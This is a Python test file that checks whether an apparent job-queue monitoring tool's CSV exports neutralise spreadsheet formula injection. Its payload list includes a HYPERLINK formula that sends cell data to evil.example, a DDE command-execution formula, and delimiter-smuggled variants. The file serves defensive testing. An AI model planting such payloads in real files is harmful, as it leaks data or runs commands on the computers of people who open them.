"""No cell of any CSV file is a formula for a spreadsheet, however it splits the line."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.jobs.conftest import FAILED

from queuescope.csv_cells import harmless
from queuescope.figures import Curve, Curves, PointZone, points_csv
from queuescope.jobs.export import csv_of
from queuescope.operations.access import Actor, Origin, Role
from queuescope.operations.audit import Search
from queuescope.operations.request import Request
from queuescope.operations.store import OperationsStore
from queuescope.panels import load_dashboard
from queuescope.timeseries import Grid

SIGNS = "=+-@＝＋－＠"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\u00a0\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "=cmd|'/c calc'!A0"),
    *("x;=1+1", "x; +1+1", "x\n=1+1", "x\r\n-1+1", 'x";=1+1;"', 'x"\n"=1+1', "x\t@SUM(1+1)"),
]


def formulas_in(text: str) -> list[str]:
    """Spreadsheets in some locales separate cells by semicolons, and some programs by tabs; numbers
    may be negative.
    """
    return [
        cell
        for delimiter in ",;\t"
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in cells
        if cell.lstrip('\x00\ufeff\u00a0\u200b \t\r\n"').startswith(tuple(SIGNS))
        and not re.fullmatch(r"-\d+", cell)
    ]


def line_of(*cells: str) -> str:
    line = io.StringIO()
    csv.writer(line).writerow(cells)
    return line.getvalue()


@given(st.text(st.sampled_from([*SIGNS, *";,\t\r\n \"'\u00a0\ufeff\u200b", "1", "A"])))
@example('a"b, c\r\nand ünïcödé')
def test_no_text_begins_like_a_formula_and_only_apostrophes_are_added(text: str) -> None:
    assert formulas_in(line_of(harmless(text), harmless(text))) == []
    assert harmless(text).replace("'", "") == text.replace("'", "")


@given(st.text(st.characters(codec="utf-8", exclude_characters=f"{SIGNS}−﹢﹣﹦﹫;\t\r\n")))
def test_a_text_without_such_signs_is_not_touched(text: str) -> None:
    assert harmless(text) == text


def jobs(texts: list[str], folder: Path) -> str:
    del folder
    cells = ("id", "name", "tenant", "queue", "worker", "error_class", "error_message")
    rows = [replace(FAILED, **dict.fromkeys((*cells, "routing_key"), text)) for text in texts]  # type: ignore[arg-type]
    return b"".join(csv_of(rows)).decode()


def audit(texts: list[str], folder: Path) -> str:
    with closing(OperationsStore(f"sqlite:///{folder / 'operations.db'}")) as store:
        for text in texts:
            store.refuse(Actor(text, Origin.OIDC), Role.VIEWER, Request.purge("q"), text)
        return "".join(store.audit.export_csv(Search()))


def chart(texts: list[str], folder: Path) -> str:
    del folder
    curves = Curves(Grid(0, 60, 60), tuple(Curve(text, text, np.ones(2)) for text in texts))
    panel = load_dashboard("ai-agents").panels[0]
    zone = PointZone(texts[0])
    return b"".join(points_csv(panel, curves, by="tenant", live_at=None, zone=zone)).decode()


@pytest.mark.parametrize("write", [jobs, audit, chart])
def test_no_file_has_a_formula(write: Callable[[list[str], Path], str], tmp_path: Path) -> None:
    text = write(FORMULAS, tmp_path)
    assert text.count("SUM(1+1)") >= 3
    assert formulas_in(text) == []
